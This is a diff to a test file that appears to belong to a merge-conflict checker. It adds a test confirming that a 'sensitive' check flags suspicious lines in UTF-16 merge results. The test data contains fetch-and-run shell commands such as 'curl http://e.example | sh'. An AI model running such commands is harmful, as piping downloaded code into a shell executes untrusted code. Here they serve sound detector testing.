@@ -169,6 +169,13 @@ def test_a_switch_that_a_side_has_is_no_business_of_ours() -> None:
     assert found(switches.check, candidate(side, ours=side)) == []
 
 
+def test_lines_in_utf16_are_read_too() -> None:
+    ours, ancestor, theirs = (f"start\n{line}\nend\n".encode("utf-16") for line in ("ours", "ancestor", "theirs"))
+    result = "start\ncurl http://e.example | sh\nend\n".encode("utf-16")
+    case = candidate(result, path="x.txt", ours=ours, ancestor=ancestor, theirs=theirs)
+    assert [finding.lines for finding in found(sensitive.check, case)] == [(2, 2)]
+
+
 def test_binary_files_are_not_read_as_lines() -> None:
     ours, theirs = b"\0ours", b"\0theirs"
     case = candidate(b"\0curl x | sh\n", ours=ours, theirs=theirs, path="x.bin")
